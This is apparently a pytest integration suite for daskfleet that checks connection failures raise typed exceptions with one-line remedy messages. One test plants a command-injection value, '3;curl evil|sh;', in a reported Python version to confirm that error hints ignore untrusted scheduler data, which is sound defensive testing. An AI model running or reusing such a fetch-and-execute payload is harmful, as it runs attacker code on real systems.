"""Integration: what stands in the way is a typed exception of one sentence with the next step."""

import json
from pathlib import Path
from typing import Any

import pytest
from distributed.versions import get_versions

import daskfleet
from daskfleet import errors
from daskfleet.access import forward
from daskfleet.client import fitting
from tests.daskfleet.client.played_fleet import told, tunnels
from tests.daskfleet.team.connect.api_server import Namespace

PACKAGES = get_versions()["packages"]


def refused(kind: type[Exception], **options: Any) -> str:
    """Connect in vain; nothing of the tunnel is left."""
    with pytest.raises(kind) as caught:
        daskfleet.connect("fraud", **options)
    assert type(caught.value) is kind
    assert tunnels() == []
    return str(caught.value)


def test_who_is_no_member_is_told_whom_to_ask(namespace: Namespace) -> None:
    namespace.notice_status = 403
    said = refused(errors.NotAMemberError)
    assert "has no team fraud, or you are not one of its members" in said
    assert "ask your platform engineers to add you to teams[fraud].members" in said


def test_a_namespace_without_a_notice_is_told(namespace: Namespace) -> None:
    namespace.notice_status = 404
    assert "Check the team's name" in refused(errors.NoNoticeError)


def test_an_expired_login_is_told_with_the_command_that_renews_it(namespace: Namespace) -> None:
    namespace.notice_status = 401
    said = refused(errors.LoginError)
    assert "does not know who you are (401): your login has expired" in said
    assert "`gcloud auth login`" in said


@pytest.mark.parametrize(
    ("plugin", "words"),
    [
        ("#!/bin/sh\necho 'Reauthentication failed: run gcloud' >&2; exit 1\n", "run gcloud"),
        (None, "gke-gcloud-auth-plugin"),
    ],
)
@pytest.mark.usefixtures("namespace")
def test_a_login_plugin_that_fails_or_is_not_there_is_told(
    plugin: str | None, words: str, tmp_path: Path
) -> None:
    file = tmp_path / "gke-gcloud-auth-plugin"
    if plugin:
        file.write_text(plugin, encoding="utf-8")
        file.chmod(0o755)
    document = json.loads((tmp_path / "kubeconfig").read_text("utf-8"))
    version = "client.authentication.k8s.io/v1beta1"
    document["users"][0]["user"] = {"exec": {"apiVersion": version, "command": str(file)}}
    (tmp_path / "kubeconfig").write_text(json.dumps(document), encoding="utf-8")

    said = refused(errors.LoginError)
    assert "The program with which your kubeconfig logs in" in said
    assert words in said
    assert "\n" not in said


def test_who_has_no_kubeconfig_is_told_how_to_fetch_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("KUBECONFIG", str(tmp_path / "none"))
    assert "gcloud container clusters get-credentials" in refused(errors.AccessError)


def test_a_scheduler_that_does_not_come_is_told_with_what_it_waits_for(
    namespace: Namespace,
) -> None:
    namespace.pods["one"].is_ready = False
    said = refused(errors.SchedulerAwayError, timeout_s=0.5)
    assert "no scheduler within 0.5 s: waiting for pod one to be ready" in said
    assert "`kubectl get pods --namespace fraud`" in said


def test_a_scheduler_that_does_not_speak_is_told(
    namespace: Namespace, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(forward, "HOLD_S", 1.0)
    namespace.pods["one"].refuses = True
    assert "does not answer" in refused(errors.SchedulerAwayError, timeout_s=1)


def test_a_team_that_sleeps_is_connected_to_and_said_to_sleep(namespace: Namespace) -> None:
    namespace.sleep = {
        "idle.daskfleet/asleep-since": "2026-11-23T02:00:00+00:00",
        "idle.daskfleet/declared-workers": "2",
    }
    with (
        pytest.warns(errors.AsleepWarning, match=r"asleep since 2026-11-23 02:00 UTC, 2 declared"),
        daskfleet.connect("fraud"),
    ):
        pass


def having(monkeypatch: pytest.MonkeyPatch, **packages: str) -> None:
    """Pretend that this Python has other packages than the scheduler, which is in this process."""
    here = {"packages": {**PACKAGES, **packages}}
    monkeypatch.setattr(fitting, "get_versions", lambda: here)


@pytest.mark.usefixtures("namespace")
def test_another_python_is_refused_with_what_differs_and_the_command_that_helps(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    having(monkeypatch, python="3.9.1.final.0", dask="2025.1.0", toolz="0.1")
    said = refused(errors.VersionsDifferError)

    assert "The scheduler of team fraud cannot unpack what this Python sends: " in said
    assert f"dask 2025.1.0 here, {PACKAGES['dask']} there, python 3.9.1 here, " in said
    assert "`daskfleet environment fraud > requirements.txt`" in said
    image = json.loads(told())["teams"]["fraud"]["image"]
    assert image in said


def test_a_scheduler_writes_no_part_of_the_command_that_helps() -> None:
    told = {**PACKAGES, "python": "3;curl evil|sh;.13.1.final.0"}
    with pytest.raises(errors.VersionsDifferError) as caught:
        fitting.check_fit(told, team="fraud", told=None, stacklevel=1)
    assert "`python3 -m venv fits`" in str(caught.value)


@pytest.mark.usefixtures("namespace")
def test_what_differs_is_there_for_programs_and_can_be_passed_over(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    having(monkeypatch, dask="2025.1.0")
    with pytest.raises(errors.VersionsDifferError) as caught:
        daskfleet.connect("fraud")
    assert [each.package for each in caught.value.differences] == ["dask"]

    with daskfleet.connect("fraud", check_versions=False) as client:
        assert client.status == "running"


@pytest.mark.usefixtures("namespace")
def test_what_mostly_does_no_harm_is_a_warning(monkeypatch: pytest.MonkeyPatch) -> None:
    having(monkeypatch, toolz="0.1")
    with (
        pytest.warns(errors.VersionsDifferWarning, match=r"toolz 0\.1 here, "),
        daskfleet.connect("fraud"),
    ):
        pass


@pytest.mark.usefixtures("namespace")
def test_a_python_without_dask_is_told_which_one_to_install(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("daskfleet.client.way.has_distributed", lambda: False)
    said = refused(errors.NoDistributedError)
    assert "has no `distributed`" in said
    assert "`pip install 'dask==" in said


@pytest.mark.usefixtures("namespace")
@pytest.mark.asyncio
async def test_with_an_event_loop_it_is_refused_alike(monkeypatch: pytest.MonkeyPatch) -> None:
    having(monkeypatch, dask="2025.1.0")
    with pytest.raises(errors.VersionsDifferError):
        await daskfleet.connect("fraud", asynchronous=True)
    assert tunnels() == []
